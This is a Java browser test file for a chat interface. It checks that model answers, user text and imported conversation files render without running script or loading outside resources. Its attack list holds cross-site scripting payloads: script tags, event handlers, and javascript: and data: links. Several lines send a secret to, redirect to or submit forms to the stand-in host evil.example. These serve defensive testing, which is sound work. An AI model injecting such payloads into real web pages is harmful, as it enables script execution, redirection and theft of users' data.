package io.maque.server.browser;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;

/** What a model writes is a stranger's text: shown, never run, and never allowed to call home. */
class SafetyPageTest extends PageTest {
  private static final List<String> ATTACKS =
      List.of(
          "<script>window.hacked = 1</script>",
          "<img src=x onerror=\"window.hacked = 1\">",
          "<svg><script>window.hacked = 1</script></svg>",
          "<svg/onload=window.hacked=1>",
          "<iframe srcdoc=\"<script>parent.hacked = 1</script>\"></iframe>",
          "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1>",
          "<a href=\"javascript:window.hacked=1\">press</a>",
          "[press](javascript:window.hacked=1)",
          "[press](JaVaScRiPt:window.hacked=1)",
          "[press](data:text/html,<script>window.hacked=1</script>)",
          "[press](vbscript:x)",
          "<javascript:window.hacked=1>",
          "![x](javascript:window.hacked=1)",
          "![x\" onerror=\"window.hacked=1](http://127.0.0.1/x.png)",
          "![steal](https://evil.example/p.png?secret=1)",
          "![steal](/v1/models)",
          "![svg](data:image/svg+xml;base64,PHN2Zy8+)",
          "<style>body { display: none }</style>",
          "<link rel=stylesheet href=https://evil.example/x.css>",
          "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
          "<form action=https://evil.example><input name=a><button>send</button></form>",
          "<base href=https://evil.example/>",
          "<div style=\"position:fixed;inset:0\">over all</div>",
          "<details open ontoggle=window.hacked=1>x</details>",
          "```html\n<script>window.hacked = 1</script>\n```",
          "```\"><img src=x onerror=window.hacked=1>\ncode\n```",
          "`<img src=x onerror=window.hacked=1>`",
          "| <img src=x onerror=window.hacked=1> |\n|--|\n| <script>window.hacked=1</script> |",
          "$\\href{javascript:window.hacked=1}{x}$ and $\\htmlClass{evil}{x}$",
          "$$\\def\\a{\\a\\a}\\a$$",
          "$\\includegraphics{https://evil.example/x.png}$",
          "<br onclick=window.hacked=1>",
          "<sub onmouseover=window.hacked=1>x</sub>",
          "[ref]: javascript:window.hacked=1\n\n[ref]",
          "<think><img src=x onerror=window.hacked=1></think>done");

  @Test
  void nothingAModelWritesRunsOrLoads() {
    for (String attack : ATTACKS) {
      model.answers(attack.split("(?<=\\G.{5})"));
    }
    for (int i = 0; i < ATTACKS.size(); i++) {
      browser.say("attack " + i);
      browser.untilAnswered();
    }

    browser.script(
        "for (const link of document.querySelectorAll('.prose a:not([href])')) link.click()");
    assertThat(browser.script("return window.hacked ?? null")).isNull();
    assertThat(count("script, iframe, object, embed, form, style, link, meta, base, svg, button"))
        .as("elements that have no place in an answer but for the copy button")
        .isEqualTo(count("figure.code .copy, figure.code .copy svg, .katex svg"));
    assertThat(count("[onerror], [onclick], [onload], [ontoggle], [onmouseover], .evil")).isZero();
    assertThat(count("img:not([src^='data:image/'])")).isZero();
    assertThat(count("a[href]:not([rel~='noopener'])")).isZero();
    assertThat(count("a[href^='javascript' i], a[href^='data' i], a[href^='vbscript' i]")).isZero();
    assertThat(loadedFromElsewhere()).isEqualTo(List.of());
    assertThat(browser.find("#prompt").isDisplayed()).isTrue();
  }

  @Test
  void markupIsShownAsItWasWritten() {
    model.answers("Use <b>bold</b>, H<sub>2</sub>O, a < b && c > d &amp; &lt;");

    browser.say("HTML?");
    browser.untilAnswered();

    assertThat(browser.text(".assistant .prose").strip())
        .isEqualTo("Use <b>bold</b>, H2O, a < b && c > d & <");
    assertThat(browser.text(".assistant .prose sub")).isEqualTo("2");
  }

  @Test
  void whatTheUserWritesIsNotMarkup() {
    model.answers("Fine.");
    String text = "<img src=x onerror=alert(1)> **not bold** <script>alert(2)</script>";

    browser.say(text);
    browser.untilAnswered();

    assertThat(browser.text(".user .said")).isEqualTo(text);
    browser.untilText(".conversation .open", "<img src=x");
  }

  @Test
  void anImportedFileIsTrustedWithNothing() {
    String evil =
        """
        {"format": "maque-conversations", "version": 1, "images": {"i": {"url": "data:text/html;base64,AA=="}},
         "conversations": [{"title": {"toString": 1}, "leaf": "b", "sampling": {"temperature": "x", "y": 1},
           "messages": [{"id": "a", "parent": "b", "role": "<x>", "text": "<img src=x onerror=alert(1)>"},
                        {"id": "b", "parent": "a", "role": "user", "text": 7, "images": [{"id": "none"}]}]}]}
        """;
    browser.script(
        """
        const carrier = new DataTransfer();
        carrier.items.add(new File([arguments[0]], "evil.json"));
        const input = document.querySelector("#import-file");
        input.files = carrier.files;
        input.dispatchEvent(new Event("change"));
        """,
        evil);
    browser.untilText("#toasts", "1 conversation imported.");

    browser.press(".conversation .open");

    browser.untilText("#thread", "<img src=x onerror=alert(1)>");
    browser.until("return document.querySelectorAll('.message').length === 2");
  }

  private static long count(String selector) {
    return (Long)
        browser.script(
            "return [...document.querySelectorAll('.answer, .user')]"
                + ".flatMap((m) => [...m.querySelectorAll(arguments[0])])"
                + ".filter((e) => !e.closest('.actions, summary')).length",
            selector);
  }

  private static Object loadedFromElsewhere() {
    return browser.script(
        "return performance.getEntriesByType('resource').map((entry) => entry.name).filter((name)"
            + " => !name.startsWith(location.origin) && !/^(data|blob):/.test(name))");
  }
}
